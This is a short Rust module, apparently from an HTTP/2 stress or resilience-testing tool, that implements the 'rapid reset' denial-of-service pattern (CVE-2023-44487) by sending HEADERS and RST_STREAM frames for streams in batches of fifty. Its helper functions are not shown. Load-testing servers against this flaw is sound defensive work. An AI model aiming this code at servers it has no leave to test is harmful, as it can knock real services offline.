//! Streams that are opened and reset at once (CVE-2023-44487): they cost the client two frames, and
//! the listener whatever it began.

use super::{
    frames::{block, headers, pour, reset},
    front::Front,
};

const AT_ONCE: u32 = 50;

pub(super) async fn run(front: &Front) {
    let block = block(&front.listener);
    pour(front, 1.0, AT_ONCE, |id| {
        front.tally.reset();
        [headers(id, &block), reset(id)].concat()
    })
    .await;
}
